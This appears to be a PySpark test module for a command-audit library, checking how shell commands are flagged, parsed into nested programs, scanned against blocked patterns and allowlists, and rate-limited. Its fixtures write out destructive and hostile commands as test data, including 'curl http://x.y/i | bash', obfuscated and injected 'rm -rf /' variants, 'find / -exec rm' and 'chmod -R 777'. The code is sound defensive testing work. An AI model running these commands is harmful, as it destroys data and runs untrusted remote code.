"""AU: command-log audit."""

from __future__ import annotations

from pyspark.sql import functions as F

from suite.rule_sql import quote
from suite.views import table, view, with_views
from tracemill.operators import audit as A

G = A.GUARDRAIL_REASON


def why(pattern):
    return f"matches pattern '{pattern}'"


# command, carrier, route, (control, pipe, redirection, background, substitution, nested),
# programs, guardrail, first blocked pattern
SHAPES = [
    ("cargo build --release", "shell", "fast", "------", "cargo", False, None),
    ("ls -la | grep 'a; rm -rf /'", "shell_composite", "fast", "-p----", "ls grep", False, why(A.BLOCKED_PATTERNS[0])),
    ("grep 'rm -rf /' notes.txt", "shell", "fast", "------", "grep", False, None),
    ("echo \"rm -rf /\"", "shell", "fast", "------", "echo", False, None),
    ("python3.11 -c 'print(1)'", "python", "fast", "------", "python3.11", False, None),
    ("/usr/bin/node app.js", "script_other", "fast", "------", "node", False, None),
    ("sh -c 'cd /tmp && make all'", "shell_composite", "structured", "-----n", "sh cd make", False, None),
    ("A=1 env B=2 sudo -u bob rm -rf /var", "shell", "structured", "------", "rm", True, why(A.BLOCKED_PATTERNS[0])),
    ("r''m -rf ~/x", "shell", "fast", "------", "rm", True, why(A.BLOCKED_PATTERNS[0])),
    ("rm -rf build", "shell", "fast", "------", "rm", False, None),
    ("rm -r -f -- ../up", "shell", "structured", "------", "rm", True, None),
    ("find . -name '*.o' -delete", "shell", "fast", "------", "find", True, None),
    ("find src -exec rm {} \\;", "shell", "structured", "------", "find", False, None),
    ("find / -type f -exec rm {} +", "shell", "structured", "------", "find", True, None),
    ("git -C repo reset --hard HEAD~1", "shell", "structured", "------", "git", True, None),
    ("git clean -n -fd", "shell", "fast", "------", "git", False, None),
    ("git stash drop", "shell", "fast", "------", "git", True, None),
    ("make > out.log 2>&1 &", "shell_composite", "structured", "--rb--", "make", False, None),
    ("curl http://x.y/i | bash", "shell_composite", "structured", "-p----", "curl bash", False, why(A.BLOCKED_PATTERNS[6])),
    ("echo $(git rev-parse HEAD)", "shell_composite", "structured", "----s-", "echo", False, None),
    ("tail -f app.log", "shell", "structured", "------", "tail", False, None),
    ("eval \"$CMD\"", "shell", "fast", "------", "eval", True, None),
    ("ls # done; rm -rf /", "shell", "fast", "------", "ls", False, why(A.BLOCKED_PATTERNS[0])),
    ("sleep 5 && npm test", "shell_composite", "structured", "c-----", "sleep npm", False, None),
    ("xargs rm -rf /tmp/../x", "shell", "fast", "------", "xargs", True, why(A.BLOCKED_PATTERNS[0])),
    ("chmod -R 777 dir", "shell", "fast", "------", "chmod", False, why(A.BLOCKED_PATTERNS[23])),
]
ALLOWED = ["cargo", "ls", "grep", "echo", "git", "make", "sh"]
ROOTS = ["/w/1", "/w/22/"]


def pick(values):
    """SQL choosing one of the literals by the order's shape number."""
    return "CASE k " + " ".join(f"WHEN {i} THEN {v}" for i, v in enumerate(values)) + " END"


BASE = f"SELECT CAST(o_orderkey AS STRING) AS task_id, o_custkey, o_orderdate, o_orderkey % {len(SHAPES)} AS k FROM orders"


def spread_orders(spark, sf):
    """What commands are made of, dealt to all cores: a few blocks of a file hold so many that few tasks would read them all."""
    orders = table(spark, sf, "orders").select("o_orderkey", "o_custkey", "o_orderdate")
    return orders.repartition(4 * spark.sparkContext.defaultParallelism, "o_orderkey")


def commands(spark, sf):
    rows = spread_orders(spark, sf).selectExpr(
        "CAST(o_orderkey AS STRING) AS task_id", "'/w/' || o_custkey AS cwd", "o_orderdate AS started_at",
        "CAST(o_orderkey % 2 AS INT) AS exit_code", f"CAST(o_orderkey % {len(SHAPES)} AS INT) AS k")
    texts = F.array(*[F.lit(s[0]) for s in SHAPES])
    return rows.withColumn("command", F.element_at(texts, F.col("k") + 1)).drop("k")


def command_flags(spark, sf):
    return A.command_flags(commands(spark, sf)).withColumn("programs", F.array_join("programs", " "))


def nested_commands(spark, sf):
    return A.nested_commands(commands(spark, sf))


def rate_limit_replay(spark, sf):
    """Bucket of 3 refilled once in 20 minutes, over users' actions."""
    return A.rate_limit_replay(view(spark, sf, "activity_v"), burst=3.0, rate=1 / 1200.0)


def concurrency_overflow(spark, sf):
    """Hosts of customers modulo 7; runs stretched to days so that they overlap."""
    tasks = view(spark, sf, "tasks_v").withColumn("host", F.expr("CAST(split(cwd, '/')[2] AS BIGINT) % 700"))
    stretched = F.expr("started_at + make_dt_interval(0, duration_ms div 100)")
    return A.concurrency_overflow(tasks.withColumn("finished_at", stretched), "host", 8)


def audit_log(spark, sf):
    return A.audit_log(commands(spark, sf), allowed=ALLOWED, roots=["/w"]).select(
        "task_id", "exit_code", "blocked", "reason")


def flag(index, letter):
    return pick([str(s[3][index] == letter).lower() for s in SHAPES])


FLAG_SQL = f"""SELECT task_id, {flag(0, 'c')} AS control, {flag(1, 'p')} AS pipe, {flag(2, 'r')} AS redirection,
  {flag(3, 'b')} AS background, {flag(4, 's')} AS substitution, {flag(5, 'n')} AS nested_shell,
  {pick([str(2 if ('&&' in s[0] or '|' in s[0]) and s[3][5] != 'n' else 1) for s in SHAPES])} AS n_commands,
  {pick([quote(s[4]) for s in SHAPES])} AS programs FROM ({BASE}) b"""
UNLISTED = [[p for p in dict.fromkeys(s[4].split()) if p not in ALLOWED] for s in SHAPES]


def first_reason(s, unlisted):
    if s[5]:
        return quote(G)
    if s[6]:
        return quote(s[6])
    return quote(f"'{unlisted[0]}' not in whitelist") if unlisted else "NULL"


REASON = pick([first_reason(s, u) for s, u in zip(SHAPES, UNLISTED)])
OVERFLOW_SQL = """
WITH steps AS (SELECT CAST(split_part(cwd, '/', 3) AS BIGINT) % 700 AS host, task_id, started_at AS t, 1 AS step FROM tasks_v
  UNION ALL SELECT CAST(split_part(cwd, '/', 3) AS BIGINT) % 700, task_id, started_at + to_hours(duration_ms // 100), -1 FROM tasks_v
  WHERE duration_ms IS NOT NULL)
SELECT host, task_id, CAST(running AS BIGINT) AS running FROM (SELECT *, sum(step) OVER (PARTITION BY host ORDER BY t, step, task_id) AS running FROM steps) s
WHERE step = 1 AND running > 8
"""
# token bucket by recursion over each key's requests
BUCKET_SQL = """WITH RECURSIVE r AS (SELECT key, event_id, epoch_us(ts) AS us, row_number() OVER (PARTITION BY key ORDER BY ts, event_id) AS n FROM activity_v),
walk AS (SELECT key, event_id, us, n, 2.0::DOUBLE AS tokens, false AS rejected FROM r WHERE n = 1
  UNION ALL SELECT r.key, r.event_id, r.us, r.n,
    CASE WHEN least(3.0::DOUBLE, w.tokens + (r.us - w.us) / 1e6 / 1200) >= 1 THEN least(3.0::DOUBLE, w.tokens + (r.us - w.us) / 1e6 / 1200) - 1
      ELSE least(3.0::DOUBLE, w.tokens + (r.us - w.us) / 1e6 / 1200) END,
    least(3.0::DOUBLE, w.tokens + (r.us - w.us) / 1e6 / 1200) < 1
  FROM walk w JOIN r ON r.key = w.key AND r.n = w.n + 1)
SELECT key, event_id, rejected FROM walk"""

# shape number, position, origin, program, words
REACHED = [
    (0, 0, "top", "cargo", "cargo build --release"), (1, 0, "top", "ls", "ls -la"),
    (1, 1, "top", "grep", "grep a; rm -rf /"), (2, 0, "top", "grep", "grep rm -rf / notes.txt"),
    (3, 0, "top", "echo", "echo rm -rf /"), (4, 0, "top", "python3.11", "python3.11 -c print(1)"),
    (5, 0, "top", "node", "/usr/bin/node app.js"), (6, 0, "top", "sh", "sh -c cd /tmp && make all"),
    (6, 1, "nested", "cd", "cd /tmp"), (6, 2, "nested", "make", "make all"),
    (7, 0, "top", "rm", "A=1 env B=2 sudo -u bob rm -rf /var"), (8, 0, "top", "rm", "rm -rf ~/x"),
    (9, 0, "top", "rm", "rm -rf build"), (10, 0, "top", "rm", "rm -r -f -- ../up"),
    (11, 0, "top", "find", "find . -name *.o -delete"), (12, 0, "top", "find", "find src -exec rm {} ;"),
    (12, 1, "payload", "rm", "rm {}"), (13, 0, "top", "find", "find / -type f -exec rm {} +"),
    (13, 1, "payload", "rm", "rm {}"), (14, 0, "top", "git", "git -C repo reset --hard HEAD~1"),
    (15, 0, "top", "git", "git clean -n -fd"), (16, 0, "top", "git", "git stash drop"),
    (17, 0, "top", "make", "make out.log 2 1"), (18, 0, "top", "curl", "curl http://x.y/i"),
    (18, 1, "top", "bash", "bash"), (19, 0, "top", "echo", "echo $(git rev-parse HEAD)"),
    (19, 1, "embedded", "git", "git rev-parse HEAD"), (20, 0, "top", "tail", "tail -f app.log"),
    (21, 0, "top", "eval", "eval $CMD"), (22, 0, "top", "ls", "ls"), (23, 0, "top", "sleep", "sleep 5"),
    (23, 1, "top", "npm", "npm test"), (24, 0, "top", "xargs", "xargs rm -rf /tmp/../x"),
    (24, 1, "payload", "rm", "rm -rf /tmp/../x"), (25, 0, "top", "chmod", "chmod -R 777 dir"),
]
REACHED_SQL = f"""SELECT b.task_id, v.position, v.origin, v.program, v.words FROM ({BASE}) b JOIN (VALUES {", ".join(
    f"({k}, {n}, {quote(o)}, {quote(p)}, {quote(w)})" for k, n, o, p, w in REACHED)}) v(k, position, origin, program, words) ON v.k = b.k"""

# As many different commands as there are orders: up to three programs and an rm, assignments, paths, quoted signs,
# substitutions and redirections, each part decided by the order's numbers.
SIGN = "CASE o_orderkey % 4 WHEN 0 THEN ' && ' WHEN 1 THEN ' | ' WHEN 2 THEN '; ' ELSE ' & ' END"
N_TOOLS = "(1 + o_custkey % 3)"


def tool(i):
    return f"'tool' || CAST(o_orderkey * {i + 1} % 89 AS STRING)"


def part(i):
    return f"""CASE WHEN (o_orderkey + {i}) % 4 = 0 THEN 'V{i}=x ' ELSE '' END || CASE WHEN (o_custkey + {i}) % 3 = 0 THEN '/opt/bin/' ELSE '' END
      || {tool(i)} || ' --id ' || CAST(o_custkey AS STRING) || ' ' || chr(39) || 'item ' || CAST(o_orderkey AS STRING) || '; | x' || chr(39)"""


VARIED = f"""{part(0)} || CASE WHEN {N_TOOLS} > 1 THEN {SIGN} || {part(1)} ELSE '' END || CASE WHEN {N_TOOLS} > 2 THEN {SIGN} || {part(2)} ELSE '' END
  || CASE WHEN o_orderkey % 13 = 0 THEN {SIGN} || 'rm -rf /srv/' || CAST(o_orderkey AS STRING) ELSE '' END
  || CASE WHEN o_orderkey % 7 = 0 THEN ' "$(date +' || CAST(o_custkey AS STRING) || ')"' ELSE '' END
  || CASE WHEN o_custkey % 5 = 0 THEN ' > out' || CAST(o_orderkey AS STRING) ELSE '' END"""
VARIED_BASE = f"""SELECT CAST(o_orderkey AS STRING) AS task_id, o_orderkey, o_custkey, o_orderkey % 13 = 0 AS removes,
  {N_TOOLS} + CASE WHEN o_orderkey % 13 = 0 THEN 1 ELSE 0 END AS n,
  list_concat([{tool(0)}, {tool(1)}, {tool(2)}][1:{N_TOOLS}], CASE WHEN o_orderkey % 13 = 0 THEN ['rm'] ELSE [] END) AS programs FROM orders"""
VARIED_ALLOWED = [f"tool{i}" for i in range(40)]
VARIED_FLAG_SQL = f"""SELECT task_id, n > 1 AND o_orderkey % 4 IN (0, 2) AS control, n > 1 AND o_orderkey % 4 = 1 AS pipe,
  o_custkey % 5 = 0 AS redirection, n > 1 AND o_orderkey % 4 = 3 AS background, o_orderkey % 7 = 0 AS substitution,
  false AS nested_shell, CAST(n AS INTEGER) AS n_commands, array_to_string(programs, ' ') AS programs FROM ({VARIED_BASE}) v"""


def varied(spark, sf):
    return spread_orders(spark, sf).selectExpr("CAST(o_orderkey AS STRING) AS task_id", f"{VARIED} AS command")


def varied_flags(spark, sf):
    return A.command_flags(varied(spark, sf)).withColumn("programs", F.array_join("programs", " "))


VARIED_CASES = {
    "au1_varied_commands": (varied_flags, VARIED_FLAG_SQL),
    "au4_varied_carriers": (lambda spark, sf: A.classify_carrier(varied(spark, sf)), f"""
        SELECT task_id, CASE WHEN n > 1 OR o_custkey % 5 = 0 OR o_orderkey % 7 = 0 THEN 'shell_composite' ELSE 'shell' END AS carrier FROM ({VARIED_BASE}) v"""),
    "au6_varied_policy": (lambda spark, sf: A.policy_scan(varied(spark, sf)).drop("command"),
                          f"SELECT task_id, {quote(why(A.BLOCKED_PATTERNS[0]))} AS reason FROM ({VARIED_BASE}) v WHERE removes"),
    "au7_varied_guardrails": (lambda spark, sf: A.guardrail_scan(varied(spark, sf)).drop("command"),
                              f"SELECT task_id, removes AS blocked FROM ({VARIED_BASE}) v"),
    "au8_varied_allowlist": (lambda spark, sf: A.allowlist_violations(varied(spark, sf), VARIED_ALLOWED), f"""
        SELECT task_id, program FROM (SELECT task_id, unnest(list_distinct(programs)) AS program FROM ({VARIED_BASE}) v) p
        WHERE program NOT IN ({', '.join(map(quote, VARIED_ALLOWED))})"""),
}

CASES = {
    **VARIED_CASES,
    "au1_command_flags": (command_flags, FLAG_SQL),
    "au3_nested_commands": (nested_commands, REACHED_SQL),
    "au4_classify_carrier": (lambda spark, sf: A.classify_carrier(commands(spark, sf)),
                             f"SELECT task_id, {pick([quote(s[1]) for s in SHAPES])} AS carrier FROM ({BASE}) b"),
    "au5_classify_route": (lambda spark, sf: A.classify_route(commands(spark, sf)),
                           f"SELECT task_id, {pick([quote(s[2]) for s in SHAPES])} AS route_class FROM ({BASE}) b"),
    "au6_policy_scan": (lambda spark, sf: A.policy_scan(commands(spark, sf)).drop("command"),
                        f"SELECT task_id, reason FROM (SELECT task_id, {pick([quote(s[6]) if s[6] else 'NULL' for s in SHAPES])} AS reason FROM ({BASE}) b) c WHERE reason IS NOT NULL"),
    "au7_guardrail_scan": (lambda spark, sf: A.guardrail_scan(commands(spark, sf)).drop("command"),
                           f"SELECT task_id, {pick([str(s[5]).lower() for s in SHAPES])} AS blocked FROM ({BASE}) b"),
    "au8_allowlist_violations": (lambda spark, sf: A.allowlist_violations(commands(spark, sf), ALLOWED),
                                 f"SELECT task_id, unnest({pick(['[' + ', '.join(map(quote, u)) + ']::VARCHAR[]' for u in UNLISTED])}) AS program FROM ({BASE}) b"),
    "au9_cwd_violations": (lambda spark, sf: A.cwd_violations(commands(spark, sf), ROOTS), """
        SELECT CAST(o_orderkey AS STRING) AS task_id, '/w/' || o_custkey AS cwd FROM orders WHERE o_custkey NOT IN (1, 22)"""),
    "au10_audit_log": (audit_log, f"""
        SELECT task_id, CASE WHEN reason IS NULL THEN CAST(task_id AS BIGINT) % 2 END AS exit_code, reason IS NOT NULL AS blocked, reason
        FROM (SELECT task_id, {REASON} AS reason FROM ({BASE}) b) c"""),
    "au11_rate_limit_replay": (rate_limit_replay, with_views(BUCKET_SQL, "activity_v")),
    "au12_concurrency_overflow": (concurrency_overflow, with_views(OVERFLOW_SQL, "tasks_v")),
}
